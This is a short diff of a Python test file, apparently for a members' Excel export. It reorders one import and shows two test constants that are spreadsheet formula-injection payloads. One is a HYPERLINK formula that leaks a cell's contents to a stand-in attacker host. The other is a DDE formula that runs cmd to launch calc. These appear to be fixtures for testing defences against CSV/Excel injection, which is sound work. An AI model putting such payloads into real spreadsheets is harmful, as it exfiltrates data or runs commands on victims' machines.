@@ -18,11 +18,11 @@ from openpyxl import Workbook, load_workbook
 
 from activities.factories import ActivityFactory, HeldMeetingFactory
 from activities.models import Attendance
+from kernel.xlsx import FORMULA_STARTS
 from members import excel
 from members.factories import MemberFactory
 from pairing.factories import ContributionFactory, UnitFactory
 from portal.factories import RectificationFactory
-from kernel.xlsx import FORMULA_STARTS
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
 DDE = "=cmd|' /C calc'!A0"
